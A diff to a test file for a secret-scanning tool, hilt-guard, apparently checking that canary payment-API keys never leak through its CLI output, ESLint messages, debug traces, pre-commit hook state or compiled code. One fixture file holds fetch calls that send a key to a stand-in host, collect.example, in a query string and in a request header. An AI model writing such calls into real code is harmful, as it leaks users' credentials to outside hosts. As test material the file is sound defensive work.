@@ -1,6 +1,7 @@
-import { chmodSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { lintResults } from '../eslint/project.ts';
 import { makeKey, randomText } from '../support/keys.ts';
 import { createRepository } from '../support/repository.ts';
 import type { Repository } from '../support/repository.ts';
@@ -62,6 +63,10 @@ beforeAll(() => {
   repository.write('src/long.js', `${'a;'.repeat(3000)}x("${canary('long line')}");${'b;'.repeat(3000)}\n`);
   repository.write('src/ignored.ts', `// hilt-guard-ignore-next-line no-hardcoded-key -- ${canary('reason of a comment')}\nconst k = "${canary('suppressed')}";\n// hilt-guard-ignore-next-line ${canary('rule of a comment')} -- x\n`);
   repository.write('.env', `HILT_API_KEY=${canary('dotenv')}\nHILT_WEBHOOK_SECRET=${secret}\nHILT_SETUP_TOKEN=${token}\n`);
+  repository.write('package.json', '{ "name": "shop", "dependencies": { "@hiltpay/sdk": "1", "next": "15" } }');
+  repository.write('app/page.tsx', `"use client";\nimport { HiltClient } from '@hiltpay/sdk';\nimport './${canary('specifier of an import')}';\nexport const client = new HiltClient({ apiKey: "${canary('client')}" });\n`);
+  repository.write('src/told.ts', `import { HiltClient } from '@hiltpay/sdk';\nconst key = "${canary('told')}";\nconsole.log(key, "${canary('logged')}");\nfetch("https://collect.example/?k=${canary('query')}");\nfetch("https://${canary('host')}.example/", { headers: { "X-Hilt-Key": key } });\nfetch("https://api.hilt.so/v1/products?api_key=${canary('address')}", { headers: { Authorization: "Bearer ${canary('header')}", Cookie: "session=${canary('cookie')}" } });\nthrow new Error("${canary('thrown')}");\n`);
+  repository.write('compose.yaml', `services:\n  ${canary('service')}:\n    image: shop\n    environment:\n      HILT_API_KEY: \${HILT_API_KEY}\n  bot:\n    image: bot\n    environment:\n      HILT_API_KEY: \${HILT_API_KEY}\n      ${canary('variable')}: x\n`);
   repository.write('bad.json', `{ "key": "${canary('broken JSON')}", oops`);
   repository.write('bad.yaml', `a: [\n  key: ${canary('broken YAML')}\n\t- }`);
   repository.write('bad.toml', `key = "${canary('broken TOML')}"\n[[[`);
@@ -111,12 +116,25 @@ describe('no key is printed', () => {
       for (const file of ['plain', 'encoded', 'two', 'broken', 'long']) expect(stdout).toContain(`src/${file}.`);
     }
   });
+  it.each(['table', 'json', 'markdown', 'html', 'mermaid'])('by the inventory as %s', async (format) => {
+    const { code, stdout } = await expectNoLeak(['keys', '--format', format]);
+    expect(code).toBe(0);
+    expect(stdout).toContain('HILT_API_KEY');
+  });
+  it('by ESLint, in messages and in suggestions', async () => {
+    for (const file of ['app/page.tsx', 'src/told.ts', 'src/plain.ts', 'src/folded.ts', 'src/encoded.ts', 'src/slot.ts', 'src/ignored.ts']) {
+      const [result] = await lintResults(repository, file);
+      const said = result?.messages.map(({ message, suggestions = [] }) => [message, ...suggestions.map(({ desc, fix }) => [desc, fix.text])]);
+      expect(said?.length).toBeGreaterThan(0);
+      expect({ file, leaks: leaks(JSON.stringify(said)) }).toEqual({ file, leaks: [] });
+    }
+  });
   it('for a text from stdin, nor by its name', async () => {
     await expectNoLeak(['--stdin', '--stdin-filename', `${canary('stdin name')}.ts`], {}, `const k = "${canary('stdin')}";`);
   });
   it('with NODE_DEBUG', async () => {
     await expectNoLeak(['--staged'], { NODE_DEBUG: 'fs,child_process,module,esm,stream,net,tls,http,timer,worker' });
-    await expectNoLeak(['--format', 'json'], { NODE_DEBUG: '*' });
+    await expectNoLeak(['--format', 'json'], { NODE_DEBUG: '*', DEBUG: '*', GIT_TRACE: '1', GIT_TRACE_SETUP: '1', GIT_TRACE2: '1' });
   });
   it('by an option, a value or a path that holds one', async () => {
     const key = canary('argument');
@@ -180,6 +198,32 @@ describe('no key is written', () => {
     const written = listFiles(join(repository.root, '..')).filter((file) => !before.has(file));
     expect(written.map((file) => file.slice(repository.root.length + 1))).toEqual(expect.arrayContaining(['accepted', 'report.json', 'report.txt']));
     for (const file of written) expect({ file, leaks: leaks(`${file}\n${readFileSync(file, 'latin1')}`) }).toEqual({ file, leaks: [] });
+  });
+  it('into what the hook keeps of a clean commit whose names hold one', async () => {
+    const clean = createRepository();
+    try {
+      clean.git('checkout', '--quiet', '-b', `fix/${canary('branch')}`);
+      clean.write('package.json', '{ "name": "shop", "dependencies": { "@hiltpay/sdk": "1", "express": "5" }, "scripts": { "start": "node src/a.ts" } }');
+      clean.write('src/a.ts', "import { HiltClient } from '@hiltpay/sdk';\nexport const hilt = new HiltClient({ apiKey: process.env.HILT_API_KEY });\n");
+      clean.commit();
+      const commit = async (): Promise<void> => {
+        clean.git('add', '-A');
+        expect(await runCli(['hook', 'pre-commit'], { cwd: clean.root, env: clean.env })).toEqual({ code: 0, stdout: '', stderr: '' });
+      };
+      clean.write('src/b.ts', "import { hilt } from './a.ts';\nexport const products = hilt.products.list();\n");
+      await commit();
+      expect(existsSync(clean.path('.git/hilt-guard/state.json'))).toBe(true);
+      clean.write(`src/${canary('name that is kept')}.ts`, "import { hilt } from './a.ts';\nexport const plans = hilt.products.list();\n");
+      await commit();
+      const kept = listFiles(clean.path('.git/hilt-guard'));
+      for (const file of kept) expect({ file, leaks: leaks(readFileSync(file, 'latin1')) }).toEqual({ file, leaks: [] });
+    } finally {
+      clean.cleanup();
+    }
+  });
+  it('into the compiled code that is kept beside the program', () => {
+    const folder = join(import.meta.dirname, '../../dist/src/cli');
+    for (const file of readdirSync(folder)) expect({ file, leaks: leaks(readFileSync(join(folder, file), 'latin1')) }).toEqual({ file, leaks: [] });
   });
   it('and the repository is as it was', async () => {
     const before = repository.git('status', '--porcelain=v2');
